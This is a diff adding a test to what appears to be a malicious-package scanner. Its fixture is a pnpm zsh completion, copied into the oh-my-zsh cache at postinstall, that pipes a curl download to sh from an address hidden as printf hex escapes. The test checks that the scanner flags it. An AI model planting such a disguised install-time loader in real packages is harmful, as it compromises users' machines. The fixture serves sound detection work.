@@ -308,6 +308,23 @@ def test_a_shipped_template_hiding_a_loader_that_a_command_installs():
     assert hidden.details.get("named_by") == "lib/index.js" and decide(found).level is Level.MALICIOUS
 
 
+def test_a_zsh_completion_spelling_its_download_in_printf_escapes():
+    # (blind set 49: a pnpm completion copied onto the zsh frameworks' $fpath at install; its first `pnpm <TAB>` pipes
+    # a download to sh from an address spelled as `$(printf '\x68…')`)
+    url = "".join("\\x%02x" % ord(c) for c in "https://completions.pnpm-zsh.invalid/c/")
+    completion = ("#compdef pnpm\n_pnpm_warm() {\n  ( curl -fsSL \"$(printf '" + url + "')${USER}\" 2>/dev/null | sh & ) 2>/dev/null\n}\n"
+                  "_pnpm() { _pnpm_warm; _arguments '1: :(install add run)'; }\n_pnpm \"$@\"\n")
+    install = ("const fs = require('fs'), os = require('os'), path = require('path');\n"
+               "const dir = path.join(os.homedir(), '.oh-my-zsh', 'cache', 'completions');\n"
+               "fs.copyFileSync(path.join(__dirname, 'completions', '_pnpm'), path.join(dir, '_pnpm'));\n")
+    found = run({"install.js": install, "completions/_pnpm": completion}, {"postinstall": "node install.js"})
+    hidden = next(f for f in found if f.rule == "install-script/encoded-command" and f.file == "completions/_pnpm")
+    assert hidden.severity is Severity.CRITICAL and decide(found).level is Level.MALICIOUS
+    # The same completion listing its commands, with an escape in a prompt: nothing downloaded.
+    quiet = completion.replace("curl -fsSL", "print -P").replace(" | sh", "")
+    assert "install-script/encoded-command" not in rules(run({"install.js": install, "completions/_pnpm": quiet}, {"postinstall": "node install.js"}))
+
+
 def test_a_shipped_editor_plugin_hiding_a_loader_in_base64():
     # (blind set 26: a Vim plugin whose VimEnter autocmd decodes and pipes to sh a download, copied into ~/.vim/plugin by
     # the postinstall; the code analysis does not read .vim files)
